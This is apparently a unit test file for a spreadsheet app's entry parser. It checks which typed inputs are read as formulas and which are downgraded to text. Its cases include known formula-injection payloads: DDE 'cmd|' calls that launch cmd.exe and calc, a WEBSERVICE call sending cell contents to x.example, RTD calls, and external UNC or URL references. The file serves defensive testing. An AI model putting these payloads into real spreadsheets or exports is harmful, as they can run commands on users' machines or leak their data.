import { readTypedEntry } from '../../../src/core/formula/typed-entry';

test.each([
  ['=SUM(A1:A3)', 'formula'],
  ["='妇幼 项目'!H7*2", 'formula'],
  // A bar in a sheet's name or in a text is no program.
  ["='甲|乙'!A1+1", 'formula'],
  ['=IF(A1>0,"甲|乙",0)', 'formula'],
  ["=cmd|' /C calc'!A1", 'text'],
  ["=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!A1", 'text'],
  ['=1+cmd|A1', 'text'],
  ['=WEBSERVICE("http://x.example/"&A1)', 'text'],
  ['=sum(1,rtd("x",,A1))', 'text'],
  ["='\\\\server\\share\\[x.xlsx]s'!A1", 'text'],
  ["='https://x.example/[x.xlsx]s'!A1", 'text'],
  ['=口径不同', 'text'],
  ['@SUM(A1)', 'text'],
  ['-5', 'number'],
])('%s is read as %s', (typed, kind) => expect(readTypedEntry(typed, false).kind).toBe(kind));
